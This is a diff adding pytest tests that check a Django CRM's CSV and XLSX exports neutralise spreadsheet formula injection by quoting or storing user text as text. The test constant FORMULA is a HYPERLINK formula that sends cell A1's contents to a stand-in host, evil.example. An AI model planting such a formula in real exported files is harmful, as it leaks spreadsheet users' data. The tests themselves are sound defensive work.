@@ -1,15 +1,23 @@
+import csv
 import datetime as dt
 import io
+import zipfile
 from decimal import Decimal
 
 import pytest
 from django.utils import translation
-from openpyxl import load_workbook
+from openpyxl import Workbook, load_workbook
 
 from tests.factories import deal
+from tiejun.crm.customer_export import customer_export
+from tiejun.crm.customer_selectors import CustomerFilters
+from tiejun.crm.customers import customer_create
 from tiejun.errors import TiejunError
 from tiejun.imports.exports import board_xlsx, template_csv
+from tiejun.org.models import UnitKind
+from tiejun.org.services import unit_create, unit_update
 from tiejun.scoreboard.selectors import board_for_unit
+from tiejun.sheetcells import csv_cell, csv_row, xlsx_append, xlsx_put
 from tiejun.targets.services import target_set
 
 JUNE = dt.date(2026, 6, 1)
@@ -80,3 +88,85 @@ def test_template_csv_is_the_header_row():
     assert template_csv("units") == "code,name,kind,parent_code\n"
     with pytest.raises(TiejunError):
         template_csv("widgets")
+
+
+# Formula injection: every export writes user text as text (tiejun.sheetcells).
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+def sheet_xml(data: bytes) -> str:
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        return archive.read("xl/worksheets/sheet1.xml").decode()
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_cells_that_a_spreadsheet_would_evaluate_get_a_quote(start):
+    assert csv_cell(start + "1+1") == "'" + start + "1+1"
+    assert csv_row([start + "x", "张三", 3, None]) == ["'" + start + "x", "张三", 3, None]
+
+
+def test_xlsx_helpers_store_text_as_text_and_drop_what_xml_cannot_carry():
+    workbook = Workbook()
+    sheet = workbook.active
+    xlsx_put(sheet, 1, 1, FORMULA)
+    assert xlsx_append(sheet, ["=1+1", 2, "bell\x07"]) == 2
+    out = io.BytesIO()
+    workbook.save(out)
+    assert "<f>" not in sheet_xml(out.getvalue())
+    read = load_workbook(io.BytesIO(out.getvalue())).active
+    assert [(c.value, c.data_type) for row in read.iter_rows() for c in row if c.value] == [
+        (FORMULA, "s"),
+        ("=1+1", "s"),
+        (2, "n"),
+        ("bell", "s"),
+    ]
+
+
+def test_board_xlsx_writes_unit_names_as_text(org):
+    # given: a branch and a team whose names are formulas
+    unit_update(unit=org.branch, name=FORMULA)
+    unit_update(unit=org.team_a, name="=1+1")
+    board = board_for_unit(org.branch, month=JUNE, as_of=dt.date(2026, 6, 10))
+    # when
+    data = board_xlsx(board)
+    # then
+    assert "<f>" not in sheet_xml(data)
+    sheet = load_workbook(io.BytesIO(data)).active
+    assert sheet["A1"].data_type == "s" and sheet["A1"].value.startswith(FORMULA)
+    team = next(r for r in sheet.iter_rows() if r[1].value == "HZ1")
+    assert (team[2].value, team[2].data_type) == ("=1+1", "s")
+
+
+def test_board_xlsx_of_a_unit_code_a_sheet_title_cannot_hold(org):
+    unit = unit_create(code="HZ:1/2", name="杭州三组", kind=UnitKind.TEAM, parent=org.branch)
+    board = board_for_unit(unit, month=JUNE, as_of=dt.date(2026, 6, 10))
+    assert load_workbook(io.BytesIO(board_xlsx(board))).active.title == "HZ_1_2"
+
+
+@pytest.fixture
+def formula_customers(org):
+    customer_create(code="C1", name=FORMULA, owner=org.reps["R1"], phone="+86 138 0000 0001")
+    customer_create(code="C2", name="@SUM(A1)", address="-2+3", owner=org.reps["R1"])
+    return org
+
+
+def test_customer_csv_export_quotes_formulas(formula_customers):
+    export = customer_export(person=formula_customers.admin, filters=CustomerFilters())
+    rows = list(csv.reader(io.StringIO(export.content.decode("utf-8-sig"))))
+    by_code = {row[0]: row for row in rows[1:]}
+    assert by_code["C1"][1:2] == ["'" + FORMULA]
+    assert by_code["C1"][5] == "'+86 138 0000 0001"
+    assert (by_code["C2"][1], by_code["C2"][4]) == ("'@SUM(A1)", "'-2+3")
+
+
+def test_customer_xlsx_export_writes_formulas_as_their_text(formula_customers):
+    export = customer_export(
+        person=formula_customers.admin, filters=CustomerFilters(), format="xlsx"
+    )
+    assert "<f>" not in sheet_xml(export.content)
+    sheet = load_workbook(io.BytesIO(export.content)).active
+    by_code = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
+    assert (by_code["C1"][1].value, by_code["C1"][1].data_type) == (FORMULA, "s")
+    assert (by_code["C2"][1].value, by_code["C2"][4].value) == ("@SUM(A1)", "-2+3")
+    assert by_code["C1"][5].value == "+86 138 0000 0001"
